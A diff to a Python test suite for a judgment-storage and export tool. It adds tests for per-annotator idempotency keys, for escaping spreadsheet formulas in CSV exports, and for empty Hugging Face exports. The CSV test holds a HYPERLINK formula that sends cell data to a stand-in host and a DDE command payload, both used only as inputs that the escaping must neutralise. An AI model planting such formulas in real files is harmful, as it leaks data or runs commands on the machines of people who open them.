@@ -158,8 +158,31 @@ def test_a_vote_sent_again_is_stored_once(store):
     assert first == again and store.counts()["judgments"] == 1
     c, d = store.add_generations([gen_record(), gen_record(completion="6")])
     with pytest.raises(ValueError, match="already used"):
-        store.add_judgment(c, d, "B", idempotency_key="page-1:pair-7")
+        store.add_judgment(c, d, "B", annotator="x", idempotency_key="page-1:pair-7")
     assert store.add_judgment(c, d, "B") != first and store.counts()["judgments"] == 2
+
+
+def test_a_key_belongs_to_its_annotator(store):
+    """bob sending alice's key (or carol's, first) neither reads, answers with nor blocks their votes:
+    keys are unique per (annotator, key), and a conflict names the voter's own judgment only."""
+    from storage.store import JudgmentExists
+
+    a, b = store.add_generations([gen_record(), gen_record(completion="5")])
+    alice = store.add_judgment(a, b, "B", annotator="alice", idempotency_key="api:a:b:alice")
+    # bob with alice's key and her verdict: his own new judgment, not hers returned as if it were his
+    bob = store.add_judgment(a, b, "B", annotator="bob", idempotency_key="api:a:b:alice")
+    assert bob != alice
+    # bob with alice's key and another verdict: no conflict message about her vote; it is his second vote
+    with pytest.raises(JudgmentExists) as caught:
+        store.add_judgment(a, b, "A", annotator="bob", idempotency_key="api:a:b:alice")
+    assert caught.value.judgment_id == bob and "alice" not in str(caught.value)
+    # bob squats carol's key first: carol's own vote with it is stored as hers
+    store.add_judgment(a, b, "tie", annotator="bob2", idempotency_key="api:a:b:carol")
+    carol = store.add_judgment(a, b, "A", annotator="carol", idempotency_key="api:a:b:carol")
+    frame = store.judgments_frame().set_index("judgment_id")
+    assert (frame.loc[carol, "annotator"], frame.loc[carol, "verdict"]) == ("carol", "A")
+    assert (frame.loc[alice, "annotator"], frame.loc[alice, "verdict"]) == ("alice", "B")
+    assert store.counts()["judgments"] == 4
 
 
 def test_a_second_vote_with_other_content_is_refused_not_dropped(store):
@@ -258,6 +281,51 @@ def test_export_loads_in_datasets(store, tmp_path):
     assert ds.column_names == ["prompt", "chosen", "rejected"] and len(ds) == 2
     conv = load_dataset("json", data_files=str(tmp_path / "c.jsonl"), split="train")
     assert conv[0]["chosen"] == [{"role": "assistant", "content": "aligned 0"}]
+
+
+def test_csv_cells_that_start_a_formula_are_escaped_and_the_other_formats_keep_the_text(store, tmp_path):
+    """OWASP's CSV injection advice for the CSV export only; train-arm reads the escaped file back as it was."""
+    import csv
+
+    from genarm_core.training.data import load_pairs
+
+    link = '=HYPERLINK("https://evil.example/?d="&B2,"x")'
+    prompt = "=cmd|' /C calc'!A0"
+    a, b = store.add_generations([gen_record(prompt=prompt, completion="+1 safe"), gen_record(prompt=prompt, completion="-2")])
+    store.add_judgment(a, b, "A", annotator="@eve", comment=link)
+    export(store, "csv", tmp_path / "j.csv")
+    with open(tmp_path / "j.csv", newline="", encoding="utf-8") as fh:
+        row = next(csv.DictReader(fh))
+    assert (row["comment"], row["annotator"], row["prompt"]) == ("'" + link, "'@eve", "'" + prompt)
+    assert (row["completion_a"], row["completion_b"]) == ("'+1 safe", "'-2")
+    assert '"\'=HYPERLINK' in (tmp_path / "j.csv").read_text()  # text cells are quoted too
+    for value in ("\tTAB", "\rCR"):
+        assert csv_safe_cell(value) == "'" + value
+    pairs, _ = load_pairs(tmp_path / "j.csv", "dashboard")
+    assert (pairs[0].prompt, pairs[0].chosen, pairs[0].rejected) == (prompt, "+1 safe", "-2")
+    export(store, "trl", tmp_path / "t.jsonl")
+    trl = json.loads((tmp_path / "t.jsonl").read_text().splitlines()[0])
+    assert trl["prompt"] == prompt and trl["chosen"] == "+1 safe"  # JSON keeps the text as it is
+
+
+def csv_safe_cell(value):
+    import pandas as pd
+
+    from storage.export import csv_safe
+
+    return csv_safe(pd.DataFrame({"c": [value]}))["c"][0]
+
+
+def test_an_hf_export_of_no_judgments_loads_with_the_full_schema(store, tmp_path):
+    import datasets
+
+    export(store, "hf", tmp_path / "empty")
+    ds = datasets.load_from_disk(str(tmp_path / "empty"))
+    assert ds.num_rows == 0 and {"prompt", "completion_a", "completion_b", "verdict", "annotator", "skipped"} <= set(ds.column_names)
+    seed_judgments(store)
+    export(store, "hf", tmp_path / "full")
+    full = datasets.load_from_disk(str(tmp_path / "full"))
+    assert set(ds.column_names) >= {c for c in full.column_names if not c.startswith("verdict_")}
 
 
 def _writer(url, n, queue):
